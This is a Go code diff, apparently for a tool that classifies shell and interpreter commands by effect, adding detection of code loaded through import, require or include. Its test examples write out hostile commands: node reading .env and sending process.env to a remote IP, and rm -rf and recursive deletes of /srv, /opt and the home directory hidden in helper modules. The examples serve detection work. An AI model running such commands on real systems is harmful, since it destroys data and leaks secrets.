@@ -1,6 +1,7 @@
 package spec
 
 import (
+	"path/filepath"
 	"strconv"
 	"strings"
 
@@ -135,6 +136,9 @@ var interpSpecs = [...]Spec{
 		`node -e 'console.log(require("fs").readFileSync(".env", "utf8"))' => read:show .env`,
 		`node -e 'const s = require("net").connect(4444, "203.0.113.9"); s.write(JSON.stringify(process.env))' => send:raw 203.0.113.9`,
 		`node -e 'process.chdir("/"); require("fs").rmSync("etc", {recursive: true})' => delete-r etc`,
+		`echo 'require("child_process").execSync("rm -rf ~")' > lib.js; node -e 'require("./lib")' => delete-r ~`,
+		`echo 'require("fs").rmSync("/opt", {recursive: true})' > a.js; echo 'require("./a")' > b.js; node b.js => delete-r /opt`,
+		`echo 'require("./a.js")' > a.js; node a.js => exec:node require("./a.js")`,
 	}},
 	{Name: "nodejs", Like: "node"},
 	{Name: "osascript", Opts: "e= l= i s=", Style: InOrder, Does: osascriptDoes, Examples: []string{
@@ -176,6 +180,7 @@ var interpSpecs = [...]Spec{
 		`php -l index.php !> exec:php ?`,
 		`php -r 'echo "system(rm)";' !> exec:sh ?`,
 		`php -v !> exec:php ?`,
+		`echo '<?php system("rm -rf /srv"); ?>' > inc.php; php -r 'include "inc.php";' => delete-r /srv`,
 	}},
 	{Name: "powershell", Like: "pwsh"},
 	{Name: "pwsh", Style: Single, Does: pwshDoes, Examples: []string{
@@ -226,6 +231,9 @@ var interpSpecs = [...]Spec{
 		`python3 -c "import shutil; shutil.rmtree('$TARGET')" => delete-r <{$TARGET}>`,
 		`python3 -V !> exec:python ?`,
 		`python3 -c 'import subprocess; subprocess.run(["python3", "-c", "import shutil; shutil.rmtree(\"/srv\")"])' => delete-r /srv`,
+		`echo 'import shutil; shutil.rmtree("/srv")' > helpers.py; python3 -c 'import helpers' => delete-r /srv`,
+		`echo 'import shutil; shutil.rmtree("/srv")' > helpers.py; python3 -c 'from helpers import x' => exec:python import shutil; shutil.rmtree("/srv")`,
+		`python3 -c 'import json, os' !> exec:python ?`,
 	}},
 	{Name: "r", Opts: rOpts, Style: ExactInOrder, Does: rDoes, Examples: []string{
 		`R -e 'unlink("/srv", recursive = TRUE)' => delete-r /srv`,
@@ -583,9 +591,24 @@ func (c *Call) runCode(d *lang, ps []piece, o code.Options) {
 	}
 }
 
+// loads bounds following files code loads (import, require, include): how deep, and which
+// files were read already.
+type loads struct {
+	depth int
+	seen  []string
+	via   string // how the loading code was reached
+}
+
+// maxLoads is how deep files loaded by loaded files are followed.
+const maxLoads = 3
+
 // runPiece adds one piece of code and what it does.
 func (c *Call) runPiece(l code.Lang, execLang string, p piece, o code.Options) {
-	e := Effect{Kind: Exec, Lang: execLang, Text: p.text, Known: p.known, Class: p.class, By: c.Name}
+	c.runPieceIn(l, execLang, p, o, loads{})
+}
+
+func (c *Call) runPieceIn(l code.Lang, execLang string, p piece, o code.Options, ld loads) {
+	e := Effect{Kind: Exec, Lang: execLang, Text: p.text, Known: p.known, Class: p.class, By: c.Name, Via: ld.via}
 	if p.text == "" {
 		e.Known = false
 		c.Add(e)
@@ -606,18 +629,33 @@ func (c *Call) runPiece(l code.Lang, execLang string, p piece, o code.Options) {
 	if p.class == "stdin" {
 		via = c.Name + " stdin"
 	}
-	c.codeEffects(l, fs, via)
+	if ld.via != "" {
+		via = ld.via + " > " + p.from
+	}
+	ld.via = via
+	c.codeEffects(l, execLang, fs, p, ld)
 }
 
 // codeEffects turns what code does into effects.
-func (c *Call) codeEffects(l code.Lang, fs code.Facts, via string) {
+func (c *Call) codeEffects(l code.Lang, execLang string, fs code.Facts, p piece, ld loads) {
+	via := ld.via
 	cwd := c.Cwd
 	if c.In.Remote {
 		cwd = ""
 	}
+	base := cwd // where the code's own relative loads are found: its file's directory
+	if p.file != "" && cwd != "" {
+		if a := absPath(p.file, cwd, c.In.Home); a != "" {
+			base = filepath.Dir(a)
+			ld.seen = append(ld.seen[:len(ld.seen):len(ld.seen)], a)
+		}
+	}
 	for _, f := range fs.List {
 		v := via + " > " + f.Call
 		switch f.Kind {
+		case code.Load:
+			c.loadFile(l, execLang, f, base, ld)
+			continue
 		case code.Shell:
 			known := !strings.HasPrefix(strings.TrimLeft(f.Text, `"`), code.HoleVar)
 			c.Add(Effect{Kind: Exec, Lang: "sh", Text: f.Text, Known: known, Dyn: f.Dyn, Via: v, By: c.Name})
@@ -658,6 +696,58 @@ func (c *Call) codeEffects(l code.Lang, fs code.Facts, via string) {
 			}
 		}
 	}
+}
+
+// loadFile reads a file of code the code loads (a project module it imports, a script it
+// requires or includes) and adds what it does.
+func (c *Call) loadFile(l code.Lang, execLang string, f code.Fact, base string, ld loads) {
+	if ld.depth >= maxLoads || base == "" || f.Dyn {
+		return
+	}
+	for _, cand := range loadCandidates(l, f.Text, f.Class == "module") {
+		abs := absPath(cand, base, c.In.Home)
+		if abs == "" || hasString(ld.seen, abs) {
+			continue
+		}
+		text, ok := c.ReadFile(Path{Arg: cand, Abs: abs})
+		if !ok {
+			continue
+		}
+		next := loads{depth: ld.depth + 1, seen: append(append([]string(nil), ld.seen...), abs), via: ld.via + " > " + f.Call}
+		o := code.Options{Tags: l == code.PHP}
+		c.runPieceIn(l, execLang, piece{text: text, known: true, class: "file", from: cand, file: abs}, o, next)
+		return
+	}
+}
+
+// loadCandidates are the files a load may name, as the language resolves it.
+func loadCandidates(l code.Lang, name string, module bool) []string {
+	if module {
+		p := strings.ReplaceAll(name, ".", "/")
+		switch l {
+		case code.Python:
+			return []string{p + ".py", p + "/__init__.py"}
+		case code.Lua:
+			return []string{p + ".lua", p + "/init.lua"}
+		}
+		return []string{p}
+	}
+	switch l {
+	case code.JS:
+		return []string{name, name + ".js", name + ".mjs", name + ".cjs", name + ".ts", name + "/index.js"}
+	case code.Ruby:
+		return []string{name, name + ".rb"}
+	}
+	return []string{name}
+}
+
+func hasString(list []string, s string) bool {
+	for _, x := range list {
+		if x == s {
+			return true
+		}
+	}
+	return false
 }
 
 // readClass is where content a program reads goes, as a Read effect's class says it.
